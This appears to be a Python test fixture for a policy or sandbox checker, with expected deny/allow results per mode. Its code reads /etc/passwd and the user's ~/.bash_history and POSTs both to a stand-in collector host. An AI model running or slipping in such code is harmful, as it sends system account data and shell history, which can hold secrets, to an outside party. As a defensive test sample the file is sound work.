# expect: strict=deny standard=deny audit=allow
# Reconnaissance data sent out: the account list and the shell history go to
# a collector in one POST.
import os

import requests

payload = {
    "passwd": open("/etc/passwd").read(),
    "history": open(os.path.expanduser("~/.bash_history")).read(),
}
requests.post("https://collect.example/u", data=payload, timeout=5)
